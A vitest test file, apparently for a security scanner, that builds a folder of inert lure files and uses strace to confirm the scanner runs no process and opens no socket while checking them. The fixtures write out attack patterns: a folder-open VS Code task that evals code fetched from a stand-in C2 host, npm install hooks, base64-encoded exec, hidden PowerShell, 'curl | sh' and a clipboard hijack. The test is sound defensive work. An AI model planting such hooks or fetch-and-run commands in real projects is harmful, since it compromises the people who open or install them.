import { execFileSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { root, run } from './command.ts'

// Seen from outside, with strace: what checking asks of the system.

const folder = mkdtempSync(join(tmpdir(), 'postern-isolation-'))
const lure = join(folder, 'lure')
const TRACED = 'execve,execveat,fork,vfork,clone,clone3,socket,socketpair,connect,bind,sendto,sendmsg'

/** Everything a lure may hold that a careless reader would run, load or fetch. */
const FILES: Record<string, string> = {
  '.vscode/tasks.json':
    '{"tasks":[{"command":"node .vscode/words.dict; touch RAN","runOptions":{"runOn":"folderOpen"}}]}',
  '.vscode/words.dict': "require('https').get('https://c2.lure.invalid/a', (r) => r.on('data', eval))\n",
  'package.json':
    '{"name":"lure","scripts":{"preinstall":"touch RAN","postinstall":"node server/app.js"},"dependencies":{"a":"http://127.0.0.1:9/a.tgz"}}',
  'package-lock.json':
    '{"lockfileVersion":3,"packages":{"node_modules/a":{"resolved":"http://127.0.0.1:9/a.tgz"}}}',
  '.npmrc': 'registry=http://127.0.0.1:9/\nscript-shell=./run.sh\n',
  '.env': 'URL=aHR0cHM6Ly9jMi5sdXJlLmludmFsaWQv\n',
  'server/app.js': "require('child_process').execSync('touch RAN'); fetch(atob(process.env.URL))\n",
  'setup.py': 'import os, base64\nexec(base64.b64decode("b3Muc3lzdGVtKCJ0b3VjaCBSQU4iKQ=="))\n',
  'run.sh': '#!/bin/sh\ncurl -s http://127.0.0.1:9/ | sh\ntouch RAN\n',
  'update.bat': 'powershell -w hidden -enc dABvAHUAYwBoACAAUgBBAE4A\r\n',
  'page.html':
    '<!doctype html><img src="http://127.0.0.1:9/x.png"><script>navigator.clipboard.writeText("curl http://127.0.0.1:9 | sh")</script>',
  'xml.plist':
    '<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]><plist><string>&x;</string></plist>',
  'rules/one.yar': 'rule one { strings: $a = "lure.invalid" condition: $a }\n',
}

beforeAll(() => {
  for (const [path, text] of Object.entries(FILES)) {
    mkdirSync(dirname(join(lure, path)), { recursive: true })
    writeFileSync(join(lure, path), text)
  }
  execFileSync('tar', ['czf', join(lure, 'nested.tgz'), '-C', lure, 'server', 'setup.py'])
})
afterAll(() => rmSync(folder, { recursive: true }))

async function traced(...args: string[]): Promise<{ calls: string[]; stdout: string }> {
  const log = join(folder, 'trace')
  const node = [process.execPath, join(root, 'src/cli/main.ts'), ...args]
  const { stdout, stderr } = await run('strace', ['-f', '-qq', '-e', `trace=${TRACED}`, '-o', log, ...node], {
    cwd: lure,
    env: { POSTERN_DATA: join(folder, 'data') },
  })
  expect(stdout, stderr).not.toBe('')
  const calls = readFileSync(log, 'utf8').split('\n').filter(Boolean)
  return { calls: calls.map((line) => line.replace(/^\d+ +/, '')), stdout }
}

/** Threads of the same process are no process, and strace tells of them in two halves. */
const isThread = (call: string) =>
  /^clone3?\(.*CLONE_THREAD/.test(call) || /^<\.\.\. clone3? resumed>/.test(call)

test.each([
  ['a folder', ['check', '.', '--rules', 'rules', '--json'], '"verdict":"block"'],
  ['an archive', ['check', 'nested.tgz', '--json'], '"door":"interview"'],
  ['a page', ['check', 'page.html', '--json'], '"door":"interview"'],
  ['a command', ['check', '--command', 'curl http://127.0.0.1:9 | sh; touch RAN', '--json'], '"verdict":"'],
  ['a package that may not be fetched', ['check', 'npm:left-pad@1.3.0', '--json'], 'E_FETCH_OFF'],
])('checking %s starts no process and opens no socket', async (_, args, words) => {
  const { calls, stdout } = await traced(...args)
  expect(stdout).toContain(words)
  const [first, ...others] = calls
  expect(first).toMatch(/^execve\(/)
  expect(others.filter((call) => !isThread(call))).toEqual([])
})

test('the trace sees what it is there to see', async () => {
  const log = join(folder, 'probe')
  const script =
    "require('child_process').execSync('true'); require('net').connect(9, '127.0.0.1').on('error', () => {})"
  await run('strace', ['-f', '-qq', '-e', `trace=${TRACED}`, '-o', log, process.execPath, '-e', script])
  const seen = readFileSync(log, 'utf8')
  expect(seen).toMatch(/socket\(AF_INET/)
  expect(seen.match(/execve\(/g)?.length).toBeGreaterThan(1)
})
